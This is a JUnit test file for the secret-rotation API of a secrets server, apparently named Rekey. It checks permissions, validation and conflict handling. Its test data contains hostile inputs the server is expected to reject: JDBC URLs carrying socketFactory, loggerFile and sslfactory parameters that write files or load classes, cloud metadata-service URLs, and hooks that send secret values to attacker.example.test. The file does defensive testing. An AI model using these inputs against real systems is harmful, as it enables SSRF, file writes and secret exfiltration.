package dev.rekey.server;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Secret rotation routes over real HTTP: who may configure what, and the answers to broken configurations. */
class SecretRotationEndpointsTest {
  static final String ROOT = TestServer.ROOT;
  @TempDir static Path dir;
  static TestServer s;
  /** key-officer on app-*: may configure rotations of app-* secrets, may read no secret value. */
  static String officer;
  /** key-officer and crypto-user on app-*: may also read the app-* secrets. */
  static String appOwner;

  @BeforeAll
  static void start() {
    s = TestServer.dev(dir);
    officer = s.token("officer", "key-officer", "default", "app-*", null)[0];
    TestServer.Resp r = s.post("/v1/auth/tokens", ROOT, "{\"principal\":\"app-owner\",\"grants\":["
        + "{\"role\":\"key-officer\",\"namespace\":\"default\",\"keys\":\"app-*\"},"
        + "{\"role\":\"crypto-user\",\"namespace\":\"default\",\"keys\":\"app-*\"}]}");
    assertThat(r.status()).as(r.body()).isEqualTo(201);
    appOwner = r.json().get("token").asText();
    put("app-db", "{\\\"username\\\":\\\"appuser\\\",\\\"password\\\":\\\"old\\\"}");
    put("prod-admin", "{\\\"username\\\":\\\"postgres\\\",\\\"password\\\":\\\"prod-root-password\\\"}");
    put("app-admin", "{\\\"username\\\":\\\"postgres\\\",\\\"password\\\":\\\"app-admin-password\\\"}");
    put("app-signing", "whsec_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=");
    put("prod-signing", "whsec_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=");
  }

  @AfterAll
  static void stop() {
    s.close();
  }

  private static void put(String name, String jsonEscapedValue) {
    TestServer.Resp r = s.req("PUT", "/v1/secrets/" + name).token(ROOT).json("{\"value\":\"" + jsonEscapedValue + "\"}")
        .send();
    assertThat(r.status()).as(r.body()).isIn(200, 201);
  }

  private static TestServer.Resp configure(String token, String secret, String json) {
    return s.req("PUT", "/v1/secrets/" + secret + "/rotation").token(token).json(json).send();
  }

  private static String postgres(String adminSecret) {
    return "{\"rotator\":\"postgresql\",\"params\":{\"url\":\"jdbc:postgresql://attacker.example.test:54329/db\","
        + "\"admin_secret\":\"" + adminSecret + "\",\"username\":\"appuser\"}}";
  }

  private static String hook(String signingSecret) {
    return "{\"rotator\":\"external-hook\",\"params\":{\"url\":\"https://attacker.example.test/hook\","
        + "\"signing_secret\":\"" + signingSecret + "\"}}";
  }

  @Test
  void configure_externalHookToADeniedAddress_isInvalid() {
    put("hook-denied", "v0");
    TestServer.Resp r = configure(ROOT, "hook-denied", "{\"rotator\":\"external-hook\",\"params\":{\"url\":"
        + "\"http://169.254.169.254/rotate\",\"signing_secret\":\"app-signing\"}}");
    assertThat(r.status()).as(r.body()).isEqualTo(400);
    assertThat(r.body()).contains("outbound_deny");
    assertThat(s.get("/v1/secrets/hook-denied/rotation", ROOT).status()).isEqualTo(404);
  }

  /** The URL is the caller's: no metadata service, and no driver parameters that load classes or write files. */
  @Test
  void configure_postgresqlUrlToADeniedHostOrWithDriverParameters_isInvalid_andNothingIsStored() {
    put("url-checked", "{\\\"username\\\":\\\"app\\\",\\\"password\\\":\\\"x\\\"}");
    for (String url : java.util.List.of("jdbc:postgresql://169.254.169.254:5432/db",
        "jdbc:postgresql://db.example.test:5432/db?socketFactory=java.io.FileOutputStream&socketFactoryArg=/tmp/x",
        "jdbc:postgresql://db.example.test/db?loggerFile=/tmp/rekey-pwn.log&loggerLevel=DEBUG",
        "jdbc:postgresql://db.example.test/db?sslfactory=org.example.Evil",
        // 0 is "wait for ever" to the driver: a hung database would hold the rotation worker for good
        "jdbc:postgresql://db.example.test/db?socketTimeout=0",
        "jdbc:postgresql://db.example.test/db?connectTimeout=100000")) {
      TestServer.Resp r = configure(ROOT, "url-checked", "{\"rotator\":\"postgresql\",\"params\":{\"url\":\"" + url
          + "\",\"admin_secret\":\"url-checked\",\"username\":\"appuser\"}}");
      assertThat(r.status()).as(url + " -> " + r.body()).isEqualTo(400);
      assertThat(r.body()).contains("url");
    }
    assertThat(s.get("/v1/secrets/url-checked/rotation", ROOT).status()).isEqualTo(404);
    TestServer.Resp ok = configure(ROOT, "url-checked", "{\"rotator\":\"postgresql\",\"params\":{\"url\":"
        + "\"jdbc:postgresql://db.example.test:5432/db?sslmode=require&connectTimeout=5\",\"admin_secret\":\"url-checked\","
        + "\"username\":\"appuser\"}}");
    assertThat(ok.status()).as(ok.body()).isIn(200, 201);
  }

  @Test
  void configure_postgresqlAdminSecretTheCallerMayNotRead_isForbidden_andNothingIsStored() {
    assertThat(s.get("/v1/secrets/prod-admin", officer).status()).isEqualTo(403);

    TestServer.Resp r = configure(officer, "app-db", postgres("prod-admin"));

    assertThat(r.status()).as(r.body()).isEqualTo(403);
    assertThat(r.errorCode()).isEqualTo("forbidden");
    assertThat(r.body()).contains("admin_secret").contains("prod-admin").doesNotContain("prod-root-password");
    assertThat(s.get("/v1/secrets/app-db/rotation", ROOT).status()).isEqualTo(404);
  }

  @Test
  void configure_externalHookSigningSecretTheCallerMayNotRead_isForbidden() {
    put("app-hooked", "v0");
    TestServer.Resp r = configure(appOwner, "app-hooked", hook("prod-signing"));
    assertThat(r.status()).as(r.body()).isEqualTo(403);
    assertThat(r.errorCode()).isEqualTo("forbidden");
    assertThat(r.body()).contains("signing_secret");
  }

  @Test
  void configure_rotatorThatSendsTheValueOut_needsReadOnTheRotatedSecretItself() {
    // may configure app-* rotations and read only the signing secret and the admin secret
    TestServer.Resp t = s.post("/v1/auth/tokens", ROOT, "{\"principal\":\"hook-officer\",\"grants\":["
        + "{\"role\":\"key-officer\",\"namespace\":\"default\",\"keys\":\"app-*\"},"
        + "{\"role\":\"crypto-user\",\"namespace\":\"default\",\"keys\":\"app-signing\"},"
        + "{\"role\":\"crypto-user\",\"namespace\":\"default\",\"keys\":\"app-admin\"}]}");
    assertThat(t.status()).as(t.body()).isEqualTo(201);
    String hookOfficer = t.json().get("token").asText();
    put("app-victim", "the-value");
    assertThat(s.get("/v1/secrets/app-victim", hookOfficer).status()).isEqualTo(403);

    // either would deliver app-victim's next value to an endpoint of the caller's choosing
    for (String body : java.util.List.of(hook("app-signing"), postgres("app-admin"))) {
      TestServer.Resp r = configure(hookOfficer, "app-victim", body);
      assertThat(r.status()).as(body + " -> " + r.body()).isEqualTo(403);
      assertThat(r.errorCode()).isEqualTo("forbidden");
      assertThat(r.json().at("/error/message").asText()).contains("secret.read on default/app-victim");
    }
    assertThat(s.get("/v1/secrets/app-victim/rotation", ROOT).status()).isEqualTo(404);
    // a rotator that keeps the value inside Rekey needs no read
    assertThat(configure(hookOfficer, "app-victim", "{\"rotator\":\"generated\",\"params\":{}}").status())
        .isEqualTo(200);
  }

  @Test
  void configure_keyOfficerWithoutReadOnTheNamedSecret_isForbiddenEvenInsideItsOwnKeys() {
    TestServer.Resp r = configure(officer, "app-db", postgres("app-admin"));

    assertThat(r.status()).as(r.body()).isEqualTo(403);
    assertThat(r.errorCode()).isEqualTo("forbidden");
    assertThat(s.get("/v1/secrets/app-db/rotation", ROOT).status()).isEqualTo(404);
  }

  @Test
  void configure_callerMayReadEveryNamedSecret_succeeds() {
    put("app-db2", "{\\\"username\\\":\\\"appuser\\\",\\\"password\\\":\\\"old\\\"}");
    put("app-hooked2", "v0");
    TestServer.Resp pg = configure(appOwner, "app-db2", postgres("app-admin"));
    TestServer.Resp hooked = configure(appOwner, "app-hooked2", hook("app-signing"));
    TestServer.Resp byRoot = configure(ROOT, "app-db2", postgres("prod-admin"));
    TestServer.Resp generated = configure(officer, "app-db2", "{\"rotator\":\"generated\",\"params\":{}}");

    assertThat(pg.status()).as(pg.body()).isEqualTo(200);
    assertThat(hooked.status()).as(hooked.body()).isEqualTo(200);
    assertThat(byRoot.status()).as(byRoot.body()).isEqualTo(200);
    assertThat(generated.status()).as(generated.body()).isEqualTo(200);
  }

  @Test
  void configure_generatedWithABadOrOverflowingTtlOrPeriod_is400_andNothingIsStored() {
    put("ttl-check", "v0");
    for (String body : java.util.List.of(
        "{\"rotator\":\"generated\",\"params\":{\"ttl\":\"bogus\"}}",
        "{\"rotator\":\"generated\",\"params\":{\"ttl\":\"P1000000000000D\"}}",
        "{\"rotator\":\"generated\",\"params\":{\"ttl\":\"-P1D\"}}",
        "{\"rotator\":\"generated\",\"params\":{},\"period\":\"P1000000000000D\"}")) {
      TestServer.Resp r = configure(ROOT, "ttl-check", body);
      assertThat(r.status()).as(body + " -> " + r.body()).isEqualTo(400);
      assertThat(r.errorCode()).isEqualTo("invalid_request");
    }
    assertThat(s.get("/v1/secrets/ttl-check/rotation", ROOT).status()).isEqualTo(404);
    TestServer.Resp ok = configure(ROOT, "ttl-check", "{\"rotator\":\"generated\",\"params\":{\"ttl\":\"P30D\"}}");
    assertThat(ok.status()).as(ok.body()).isEqualTo(200);
  }

  @Test
  void deleteRotation_whileARotationRuns_is409_andTheConfigurationStays() {
    put("busy", "v0");
    // the external hook cannot be reached, so the rotation stays running with its step retried
    TestServer.Resp c = configure(ROOT, "busy", "{\"rotator\":\"external-hook\",\"params\":{"
        + "\"url\":\"http://127.0.0.1:9/hook\",\"signing_secret\":\"app-signing\"}}");
    assertThat(c.status()).as(c.body()).isEqualTo(200);
    TestServer.Resp started = s.post("/v1/secrets/busy/rotate", ROOT, "{}");
    assertThat(started.status()).as(started.body()).isIn(200, 202);

    TestServer.Resp r = s.req("DELETE", "/v1/secrets/busy/rotation").token(ROOT).send();
    assertThat(r.status()).as(r.body()).isEqualTo(409);
    assertThat(r.errorCode()).isEqualTo("illegal_state");
    assertThat(s.get("/v1/secrets/busy/rotation", ROOT).status()).isEqualTo(200);
  }

  @Test
  void verifyWebhook_withAnEmptyWhsecKey_is400_not500() {
    put("empty-hook", "whsec_");
    long now = java.time.Instant.now().getEpochSecond();
    TestServer.Resp r = s.post("/v1/secrets/empty-hook/verify-webhook", ROOT,
        "{\"id\":\"msg_1\",\"timestamp\":" + now + ",\"signature\":\"v1,abc\",\"body\":\"{}\"}");
    assertThat(r.status()).as(r.body()).isEqualTo(400);
    assertThat(r.errorCode()).isEqualTo("invalid_request");
    assertThat(r.json().at("/error/message").asText()).contains("empty");
  }
}
